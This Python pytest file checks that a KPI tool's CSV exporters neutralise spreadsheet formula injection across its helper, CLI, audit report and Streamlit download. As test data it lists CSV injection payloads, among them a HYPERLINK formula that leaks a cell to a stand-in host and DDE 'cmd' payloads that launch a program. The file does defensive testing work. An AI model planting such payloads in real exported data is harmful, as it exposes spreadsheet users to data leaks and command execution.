"""CSV a spreadsheet opens as data: text that starts a formula is neutralised in every CSV we write."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
import yaml
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from kpi_model.checks import AuditReport, Finding, ObjectRef, Severity, audit
from kpi_model.csv_export import frame_to_csv, rows_to_csv, safe_cell, writer
from kpi_model.models import Goal, Kpi, Unit, Workspace

from .conftest import REPO
from .test_inert_output import WS_ID, build_store

FORMULAS = [
    '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\tjust a tab first",
    "  =1+1",  # leading spaces, which some importers trim
    "-",
    "+",
]


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def runs_as_formula(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula (a plain number never runs anything)."""
    stripped = cell.lstrip(" \u00a0")
    if not stripped or stripped[0] not in "=+-@\t\r":
        return False
    try:
        float(stripped)
    except ValueError:
        return True
    return False


# ---------------------------------------------------------------------------- the helper


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text
    assert not runs_as_formula(safe_cell(text))


@pytest.mark.parametrize("value", [5, -5, -5.25, 0, 1e-9, -1e12, None, True, dt.date(2026, 1, 31), b"=raw"])
def test_values_that_are_not_text_are_left_alone(value):
    assert safe_cell(value) is value


@pytest.mark.parametrize("text", ["-5", "+1.5", "-0.25", "-2e3", "-.5", " -5"])
def test_text_that_is_a_plain_number_is_left_alone(text):
    # A breakdown column of numbers ("-5" as a band or an account delta) reads as that number in a
    # spreadsheet, which computes nothing; a quote in front would show in every negative row.
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", ["", "North", "a=b", "Sales - Q1", "'=already quoted", "5-3", "x@y.z"])
def test_ordinary_text_is_left_alone(text):
    assert safe_cell(text) == text


def test_writer_neutralises_header_and_rows_and_keeps_numbers():
    out = io.StringIO()
    safe = writer(out)
    safe.writerow(["=header", "value"])
    safe.writerows([["=cmd", -5], ["-5", -5.5], ["North", 3]])
    assert parse(out.getvalue()) == [["'=header", "value"], ["'=cmd", "-5"], ["-5", "-5.5"], ["North", "3"]]
    assert out.getvalue().endswith("\n") and "\r" not in out.getvalue()
    assert parse(rows_to_csv(["a"], [["@x"]])) == [["a"], ["'@x"]]


def test_frame_to_csv_changes_text_columns_only():
    frame = pd.DataFrame(
        {
            "period": pd.to_datetime(["2026-01-01", "2026-02-01"]),
            "value": [-5.0, 2.5],
            "rows": pd.array([3, -1], dtype="Int64"),
            "dimension": ["=HYPERLINK(1)", "-5"],
        }
    )
    rows = parse(frame_to_csv(frame))
    assert rows[0] == ["period", "value", "rows", "dimension"]
    assert rows[1] == ["2026-01-01", "-5.0", "3", "'=HYPERLINK(1)"]
    assert rows[2] == ["2026-02-01", "2.5", "-1", "-5"]
    assert frame["dimension"].iloc[0] == "=HYPERLINK(1)", "the caller's frame is not changed"


# ---------------------------------------------------------------------------- each writer, end to end


def test_cli_compute_breakdown_by_a_column_of_formulas(tmp_path):
    regions = [*FORMULAS[:4], "North", "-5"]
    with (tmp_path / "orders.csv").open("w", newline="", encoding="utf-8") as out:
        rows = csv.writer(out)
        rows.writerow(["day", "amount", "region"])
        for index in range(60):
            rows.writerow([dt.date(2026, 1, 1) + dt.timedelta(days=index), -10 + index % 7, regions[index % 6]])
    workspace = {
        "name": "CSV injection",
        "sources": [{"name": "orders", "path": "orders.csv"}],
        "kpis": [
            {
                "id": "amount",
                "name": "=cmd|' /C calc'!A0",
                "source": "orders",
                "expression": "sum(amount)",
                "time_column": "day",
            }
        ],
    }
    path = tmp_path / "ws.yaml"
    path.write_text(yaml.safe_dump(workspace), encoding="utf-8")
    result = subprocess.run(
        [sys.executable, "-m", "kpi_model.cli", "compute", str(path), "--by", "region"],
        capture_output=True,
        text=True,
        cwd=REPO,
        timeout=120,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    table = parse(result.stdout)
    assert table[0] == ["kpi_id", "period", "dimension", "value", "rows", "complete"]
    dimensions = {row[2] for row in table[1:]}
    assert {"'" + f for f in FORMULAS[:4]} <= dimensions, "each formula is written as text"
    assert {"North", "-5"} <= dimensions, "plain text and a plain number are written as they are"
    assert not [cell for row in table for cell in row if runs_as_formula(cell)]
    values = [float(row[3]) for row in table[1:] if row[3]]
    assert any(v < 0 for v in values), "negative sums are numbers, written without a quote"


def test_audit_csv_of_a_kpi_named_like_a_formula():
    name = "=cmd|' /C calc'!A0"
    workspace = Workspace(
        name="=HYPERLINK(1)",
        units=[Unit(id="u", name="@SUM(1)")],
        goals=[Goal(id="g", unit="u", statement="+1+cmd")],
        kpis=[Kpi(id="k", name=name, goal="g")],
    )
    report = audit(workspace)
    table = parse(report.to_csv())
    assert any(name in cell for row in table for cell in row), "the name is quoted in the messages"
    assert not [cell for row in table for cell in row if runs_as_formula(cell)]

    # A finding whose text itself starts with the name (a rule may put it first) is neutralised.
    first = Finding("KPI999", "=slug", Severity.ERROR, ObjectRef("kpi", "k"), f"{name} is wrong", "-fix it")
    report = AuditReport(workspace, [first], score=0, kpi_scores={}, ran_with_data=False)
    (row,) = parse(report.to_csv())[1:]
    assert row == ["KPI999", "'=slug", "error", "kpi", "k", "u", f"'{name} is wrong", "'-fix it"]


@pytest.fixture
def downloads(monkeypatch) -> dict[str, bytes]:
    """Files the app offers for download during AppTest runs, by file name."""
    seen: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def record(self, path_or_data, mimetype, kind, filename=None):
        if filename is not None and isinstance(path_or_data, bytes):
            seen[filename] = path_or_data
        return original(self, path_or_data, mimetype, kind, filename)

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", record)
    return seen


def test_preview_download_neutralises_breakdown_values(tmp_path, monkeypatch, downloads):
    root = tmp_path / "store"
    monkeypatch.setenv("KPI_WIZARD_HOME", str(root))
    monkeypatch.delenv("KPI_WIZARD_OPEN", raising=False)
    build_store(root)
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=120)
    at.query_params["ws"] = WS_ID
    at.run()
    at.switch_page("pages/preview.py").run()
    at.selectbox(key="preview_kpi").set_value("revenue").run()
    at.selectbox(key="preview_by_revenue").set_value("region").run()
    assert not at.exception, at.exception
    table = parse(downloads["revenue.csv"].decode("utf-8"))
    header, rows = table[0], table[1:]
    dimension = header.index("dimension")
    values = {row[dimension] for row in rows}
    assert "'" + '=HYPERLINK("http://evil.invalid","x")' in values
    assert {"North", "-5"} <= values
    assert not [cell for row in table for cell in row if runs_as_formula(cell)]


def test_every_csv_writer_goes_through_the_helper():
    """A new CSV writer in the app or the library must use kpi_model.csv_export (or say why not)."""
    allowed = {
        Path("kpi_model/csv_export.py"),  # the helper itself
        Path("kpi_model/sources/excel.py"),  # Excel staged as CSV for DuckDB to read back: data must stay exact
    }
    offenders = []
    for folder in ("kpi_model", "ui", "pages"):
        for path in sorted((REPO / folder).rglob("*.py")):
            text = path.read_text(encoding="utf-8")
            relative = path.relative_to(REPO)
            if relative in allowed:
                continue
            # csv's writers, and pandas' DataFrame.to_csv (called with arguments; report.to_csv() is ours)
            for needle in (r"csv\.writer\(", r"csv\.DictWriter\(", r"\.to_csv\([^)]"):
                if re.search(needle, text):
                    offenders.append(f"{relative}: {needle}")
    assert offenders == []
